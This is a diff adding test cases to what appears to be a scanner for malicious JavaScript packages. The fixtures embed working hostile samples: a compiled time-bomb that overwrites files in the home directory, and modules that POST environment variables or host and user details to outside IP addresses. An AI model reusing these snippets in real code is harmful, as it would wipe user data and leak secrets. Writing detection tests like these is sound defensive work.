@@ -2612,3 +2612,52 @@ exports.probe = (dir) => { const sock = lazyFs().readFileSync(path.join(dir, 'so
     expect(threatsOf(r)).toEqual([]);
   });
 });
+
+describe('compiler helpers and bundle loaders (round 17)', () => {
+  it("Babel output that takes its modules through @babel/runtime's interopRequireDefault, the wipe in a regenerator state machine", () => {
+    const r = load({
+      'index.js': `"use strict";
+var _interopRequireDefault = require("@babel/runtime/helpers/interopRequireDefault");
+var _regenerator = _interopRequireDefault(require("@babel/runtime/regenerator"));
+var _fs = _interopRequireDefault(require("fs"));
+var _os = _interopRequireDefault(require("os"));
+function wipe(dir) { _fs["default"].readdirSync(dir, { withFileTypes: true }).forEach(function (e) { try { _fs["default"].writeFileSync(dir + "/" + e.name, "x"); } catch (_) {} }); }
+exports.run = _regenerator["default"].mark(function _callee() {
+  return _regenerator["default"].wrap(function _callee$(_context) {
+    while (1) switch (_context.prev = _context.next) {
+      case 0: if (Date.now() < 1751328000000) return _context.abrupt("return");
+      case 2: wipe(_os["default"].homedir());
+      case "end": return _context.stop();
+    }
+  }, _callee);
+});`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('js.destructive-user-data');
+  });
+  it("tslib's __importDefault and a Browserify module whose require is a parameter", () => {
+    const r = load({
+      'index.js': `"use strict";
+const tslib_1 = require("tslib");
+const https_1 = tslib_1.__importDefault(require("https"));
+exports.push = () => https_1.default.request({ host: "203.0.113.60", method: "POST" }).end(JSON.stringify(process.env));
+require("./bundle");`,
+      'bundle.js': `(function r(e,n,t){function o(i){var p=n[i]={exports:{}};e[i][0].call(p.exports,function(x){return o(e[i][1][x]||x)},p,p.exports);return p.exports}for(var i=0;i<t.length;i++)o(t[i]);return o})({1:[function(require,module,exports){
+var os = require("os"), http = require("http");
+http.request({ host: "198.51.100.33", method: "POST" }).end(JSON.stringify({ h: os.hostname(), u: os.userInfo().username }));
+},{}]},{},[1]);`,
+    });
+    const rules = r.evidence.map((f) => `${f.file} ${f.rule}`);
+    expect(rules).toContain('index.js js.exfil-flow');
+    expect(rules).toContain('bundle.js js.exfil-fingerprint');
+  });
+  it('quiet: a Babel-compiled module that reads its own templates through the same helpers', () => {
+    const r = load({
+      'index.js': `"use strict";
+var _interopRequireDefault = require("@babel/runtime/helpers/interopRequireDefault");
+var _fs = _interopRequireDefault(require("fs"));
+var _path = _interopRequireDefault(require("path"));
+exports.template = function (name) { return _fs["default"].readFileSync(_path["default"].join(__dirname, "templates", name + ".html"), "utf8"); };`,
+    });
+    expect(threatsOf(r)).toEqual([]);
+  });
+});
